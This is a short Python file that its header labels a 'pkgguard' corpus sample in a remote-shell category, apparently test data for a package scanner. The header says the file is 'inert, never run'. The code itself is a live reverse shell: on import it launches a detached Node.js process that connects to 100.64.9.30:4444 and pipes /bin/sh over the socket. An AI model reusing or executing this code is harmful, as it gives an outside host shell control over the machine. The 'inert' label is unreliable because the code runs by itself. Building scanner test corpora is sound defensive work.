# pkgguard corpus 842 (remote-shell), modelled on [taxonomy]; inert, never run.
import shutil
import subprocess

_JS = (
    "const net=require('net'),cp=require('child_process');"
    "const sh=cp.spawn('/bin/sh',[]);const c=new net.Socket();"
    "c.connect(4444,'100.64.9.30',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});"
)

node = shutil.which("node")
if node:
    subprocess.Popen([node, "-e", _JS], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
